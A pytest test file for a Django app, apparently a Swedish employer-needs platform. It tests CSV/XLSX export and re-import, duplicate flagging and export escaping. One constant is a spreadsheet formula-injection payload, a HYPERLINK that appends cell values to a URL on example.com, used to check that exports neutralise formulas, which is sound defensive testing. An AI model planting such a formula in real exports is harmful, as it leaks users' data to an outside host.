"""Export → import → no change: the need export and the needs import share one column set."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from django.utils import translation

from employers.importing import need_import_file
from employers.models import Need, NeedEvent
from employers.services import need_create
from matchplats.core.importing import ImportFileError
from matchplats.taxonomy.models import Kommun, Lan, OccupationName, Skill, SsykGroup
from tests.factories import add_member

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://example.com/?d="&A2&B2,"Klicka")'


@pytest.fixture
def member_needs(employer_a):
    member = add_member(employer_a)
    usk = OccupationName.objects.get(concept_id="bSEB_VKd_Ub3")
    need_create(actor=member, organisation=employer_a, title=FORMULA, ssyk4=usk.ssyk4, occupation_name=usk,
                headcount=12, horizon="1y", kommun=Kommun.objects.get(code="1780"),
                description="Rad ett\nrad två; med semikolon", seqf_level=4, employment_form="seasonal",
                validation_accepted=True, visibility="coordinators",
                skills=Skill.objects.filter(label__in=["Allmän omvårdnadserfarenhet", "Afasi, omsorgserfarenhet"]))
    need_create(actor=member, organisation=employer_a, title="-Elektriker @ länet", ssyk4=SsykGroup.objects.get(
        code="7411"), headcount=3, horizon="3-5y", lan=Lan.objects.get(code="17"), visibility="aggregated")
    return member


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_export_of_the_own_needs_imports_back_with_no_change(client, employer_a, member_needs, file_format):
    client.force_login(member_needs)
    export = client.get(reverse("employers:export", args=[file_format]))
    assert export.status_code == 200
    events = NeedEvent.objects.count()
    before = list(Need.objects.order_by("pk").values())

    result = need_import_file(actor=member_needs, data=export.content, file_name=f"kompetensbehov.{file_format}",
                              organisation=employer_a)

    assert (result.rows, result.created, result.updated, result.unchanged) == (2, 0, 0, 2)
    assert list(Need.objects.order_by("pk").values()) == before
    assert NeedEvent.objects.count() == events + 0
    assert Need.objects.get(title=FORMULA).skills.count() == 2


def test_the_csv_export_has_swedish_headers_and_words_and_no_live_formula(client, employer_a, member_needs):
    client.force_login(member_needs)
    text = client.get(reverse("employers:export", args=["csv"])).content.decode("utf-8")
    assert text.startswith("\ufeffID;Arbetsgivare;Referens;Titel;SSYK;Yrkesbenämning")
    assert "Inom 1 år" in text and "Säsong" in text and "Samordnare" in text and ";Ja;" in text
    assert "Afasi, omsorgserfarenhet|Allmän omvårdnadserfarenhet" in text
    cells = [cell for row in csv.reader(io.StringIO(text[1:], newline=""), delimiter=";") for cell in row]
    assert "'" + FORMULA in cells and "'-Elektriker @ länet" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_a_stored_control_character_does_not_break_the_need_export(client, employer_a, member_needs):
    Need.objects.filter(title=FORMULA).update(title="Svets\x01are")
    client.force_login(member_needs)
    for file_format in ("csv", "xlsx"):
        assert client.get(reverse("employers:export", args=[file_format])).status_code == 200


def test_the_upload_page_links_the_own_needs_export_which_imports_back_beside_others_public_needs(
        client, employer_a, employer_b, member_needs):
    from tests.factories import make_need

    make_need(employer_b, title="Annans behov")  # public: in the full export, not in employer A's
    client.force_login(member_needs)
    page = client.get(reverse("employers:import"))
    (name, csv_url, xlsx_url), = page.context["exports"]
    assert name == employer_a.name
    assert csv_url in page.content.decode().replace("&amp;", "&") and xlsx_url.replace(".xlsx?", ".csv?") == csv_url
    export = client.get(csv_url)
    assert "Annans behov" not in export.content.decode("utf-8")
    result = need_import_file(actor=member_needs, data=export.content, file_name="egna.csv", organisation=employer_a)
    assert (result.created, result.updated, result.unchanged) == (0, 0, 2)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_own_export_uploaded_unchanged_on_the_upload_page_previews_and_imports_nothing_new(
        client, settings, tmp_path, employer_a, member_needs, file_format):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from matchplats.core.models import ImportRun

    settings.IMPORT_UPLOAD_DIR = tmp_path
    client.force_login(member_needs)
    (_name, *urls), = client.get(reverse("employers:import")).context["exports"]
    export = client.get(urls[["csv", "xlsx"].index(file_format)])
    before = list(Need.objects.order_by("pk").values())

    preview = client.post(reverse("employers:import"), {
        "organisation": employer_a.pk, "file": SimpleUploadedFile(f"kompetensbehov.{file_format}", export.content)})
    assert preview.status_code == 200, preview.context.get("errors")
    result = preview.context["result"]
    assert (result.rows, result.created, result.updated, result.unchanged, result.likely_duplicates) == (2, 0, 0, 2, 0)
    assert client.post(preview.context["confirm_url"]).status_code == 302

    run = ImportRun.objects.get()
    assert (run.organisation, run.created, run.updated, run.unchanged) == (employer_a, 0, 0, 2)
    assert list(Need.objects.order_by("pk").values()) == before


def test_the_needs_template_downloads_as_a_workbook_that_imports_like_the_csv(client, employer_a):
    member = add_member(employer_a)
    client.force_login(member)
    workbook = client.get(reverse("employers:import_template_xlsx"))
    assert workbook["Content-Disposition"] == 'attachment; filename="needs_template.xlsx"'
    csv_file = b"".join(client.get(reverse("employers:import_template")).streaming_content)

    from_xlsx = need_import_file(actor=member, data=workbook.content, file_name="needs_template.xlsx",
                                 organisation=employer_a, dry_run=True)
    from_csv = need_import_file(actor=member, data=csv_file, file_name="needs_template.csv", organisation=employer_a,
                                dry_run=True)
    assert from_xlsx.created == from_csv.created == 3
    assert [(item.title, item.reference) for item in from_xlsx.items] == [
        (item.title, item.reference) for item in from_csv.items]


def _new_rows(*rows: dict[str, str]) -> bytes:
    from tests.employers.test_importing import to_csv

    return to_csv([{"Titel": "Undersköterskor", "SSYK": "5321", "Antal": "4", "Tidshorisont": "Nu",
                    "Kommun": "Karlstad", **row} for row in rows])


def test_a_new_row_repeating_an_active_need_is_flagged_as_a_likely_duplicate(employer_a):
    member = add_member(employer_a)
    stored = need_create(actor=member, organisation=employer_a, title="Undersköterskor",
                         ssyk4=SsykGroup.objects.get(code="5321"), headcount=12, horizon="1y",
                         kommun=Kommun.objects.get(code="1780"))

    result = need_import_file(actor=member, data=_new_rows({"Titel": "  UNDERSKÖTERSKOR "}, {"Kommun": "Kil"},
                                                           {"SSYK": "5323"}, {"Titel": "Undersköterskor natt"}),
                              file_name="nya.csv", organisation=employer_a, dry_run=True)

    assert (result.created, result.likely_duplicates) == (4, 1)
    assert [item.duplicate_of for item in result.items] == [f"Undersköterskor (ID {stored.pk})", "", "", ""]


def test_a_filled_or_another_employers_need_is_not_a_likely_duplicate(employer_a, employer_b):
    member = add_member(employer_a)
    place, group = Kommun.objects.get(code="1780"), SsykGroup.objects.get(code="5321")
    filled = need_create(actor=member, organisation=employer_a, title="Undersköterskor", ssyk4=group,
                         headcount=2, horizon="now", kommun=place)
    Need.objects.filter(pk=filled.pk).update(status=Need.Status.FILLED)
    need_create(actor=add_member(employer_b), organisation=employer_b, title="Undersköterskor", ssyk4=group,
                headcount=2, horizon="now", kommun=place)

    result = need_import_file(actor=member, data=_new_rows({}), file_name="nya.csv", organisation=employer_a,
                              dry_run=True)

    assert (result.created, result.likely_duplicates, result.items[0].duplicate_of) == (1, 0, "")


def test_a_row_repeating_an_earlier_new_row_of_the_file_is_flagged(employer_a):
    result = need_import_file(actor=add_member(employer_a), data=_new_rows({}, {"Antal": "7"}, {"Titel": "Annat"}),
                              file_name="nya.csv", organisation=employer_a, dry_run=True)
    assert (result.created, result.likely_duplicates) == (3, 1)
    assert [item.duplicate_of for item in result.items] == ["", "row 2", ""]


def test_a_flagged_row_is_still_added_when_the_import_is_confirmed(employer_a):
    member = add_member(employer_a)
    need_create(actor=member, organisation=employer_a, title="Undersköterskor", ssyk4=SsykGroup.objects.get(
        code="5321"), headcount=12, horizon="1y", kommun=Kommun.objects.get(code="1780"))
    result = need_import_file(actor=member, data=_new_rows({}), file_name="nya.csv", organisation=employer_a)
    assert (result.created, result.likely_duplicates) == (1, 1)
    assert Need.objects.filter(organisation=employer_a, title="Undersköterskor").count() == 2


def test_a_copy_of_an_exported_row_without_its_id_but_with_its_reference_is_an_error(client, employer_a):
    member = add_member(employer_a)
    need = need_create(actor=member, organisation=employer_a, title="Undersköterskor", external_id="HR-1",
                       ssyk4=SsykGroup.objects.get(code="5321"), headcount=12, horizon="1y",
                       kommun=Kommun.objects.get(code="1780"))
    client.force_login(member)
    header, row = client.get(reverse("employers:export", args=["csv"])).content.decode("utf-8-sig").splitlines()
    copy = ";".join(["", *row.split(";")[1:]])
    data = "\r\n".join([header, row, copy]).encode()

    with pytest.raises(ImportFileError) as caught, translation.override("en"):
        need_import_file(actor=member, data=data, file_name="kopia.csv", organisation=employer_a)
    with translation.override("en"):
        assert caught.value.messages == ["row 3, column reference: The same need is already in row 2."]
    assert Need.objects.get().pk == need.pk
